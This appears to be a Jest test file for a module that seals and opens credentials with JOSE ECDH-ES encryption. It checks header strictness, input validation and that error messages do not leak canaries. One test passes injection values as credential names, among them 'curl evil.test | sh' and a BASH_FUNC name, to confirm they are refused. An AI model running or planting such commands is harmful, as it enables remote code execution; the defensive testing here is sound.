import { compactDecrypt, decodeProtectedHeader } from 'jose';
import { generateRecipient } from '../../../sealing/recipient';
import { open, seal } from '../../../sealing/seal';
import { forge } from '../../support/forge';

const lease = 'a'.repeat(24);
const header = { alg: 'ECDH-ES', enc: 'A256GCM', typ: 'leasehold-credential', lease, crit: ['lease'] };

test('an opener that does not know the lease in the header must refuse', async () => {
  const pair = await generateRecipient();
  const sealed = await seal({ KEY: 'x' }, pair.publicJwk, lease);
  expect(decodeProtectedHeader(sealed)).toMatchObject(header);
  await expect(compactDecrypt(sealed, pair.privateKey)).rejects.toThrow(/lease/);
});

test('only the one algorithm, cipher and type are opened', async () => {
  const pair = await generateRecipient();
  expect(await open(await forge(pair.publicJwk, lease, '{"KEY":"x"}'), pair.privateKey, lease)).toEqual({ KEY: 'x' });
  for (const change of [{ alg: 'ECDH-ES+A256KW' }, { enc: 'A128GCM' }, { typ: 'JWT' }, { typ: undefined }]) {
    const sealed = await forge(pair.publicJwk, lease, '{"KEY":"x"}', change);
    await expect(open(sealed, pair.privateKey, lease)).rejects.toMatchObject({ code: 'NotOpened' });
  }
});

test.each(['', 'canary', '[]', '["canary"]', 'null', '{"KEY":1}', '{"KEY":{"canary":"x"}}', '"canary"'])(
  'content %j is no credential, and is not repeated',
  async (text) => {
    const pair = await generateRecipient();
    const opened = open(await forge(pair.publicJwk, lease, text), pair.privateKey, lease);
    await expect(opened).rejects.toMatchObject({
      code: 'NotOpened',
      message: expect.not.stringContaining('canary') as string,
    });
  },
);

test.each(['X=1; curl evil.test | sh #', 'KEY\nPATH', 'key', '1KEY', '_KEY', 'KEY-ID', 'BASH_FUNC_ls%%', 'ÄKEY', ''])(
  'a credential with the name %j is neither sealed nor opened: it could be a command where it is written down',
  async (name) => {
    const pair = await generateRecipient();
    const credential = { KEY: 'canary', [name]: 'canary' };
    const message = expect.not.stringMatching(/canary|curl/) as string;
    await expect(seal(credential, pair.publicJwk, lease)).rejects.toMatchObject({ code: 'InvalidCredential', message });
    const forged = await forge(pair.publicJwk, lease, JSON.stringify(credential));
    await expect(open(forged, pair.privateKey, lease)).rejects.toMatchObject({ code: 'NotOpened', message });
  },
);

test('another spelling of the same bytes is not what was sealed', async () => {
  const pair = await generateRecipient();
  const sealed = await seal({ KEY: 'x' }, pair.publicJwk, lease);
  const last = String.fromCharCode(sealed.charCodeAt(sealed.length - 1) + 1);
  const respelled = sealed.slice(0, -1) + last;
  expect(Buffer.from(respelled.split('.')[4]!, 'base64url')).toEqual(Buffer.from(sealed.split('.')[4]!, 'base64url'));
  await expect(open(respelled, pair.privateKey, lease)).rejects.toMatchObject({ code: 'NotOpened' });
});

test('what is no map of names to strings, or too large, is not sealed', async () => {
  const { publicJwk } = await generateRecipient();
  for (const odd of [{}, { '': 'x' }, { KEY: 1 }, { KEY: null }, { KEY: 'x'.repeat(65_536) }]) {
    await expect(seal(odd as never, publicJwk, lease)).rejects.toMatchObject({ code: 'InvalidCredential' });
  }
});

test('a private key that is sent as recipient is refused', async () => {
  const { publicJwk } = await generateRecipient();
  const sent = seal({ KEY: 'x' }, { ...publicJwk, d: 'canary' } as never, lease);
  await expect(sent).rejects.toMatchObject({
    code: 'InvalidRecipient',
    message: expect.not.stringContaining('canary') as string,
  });
});
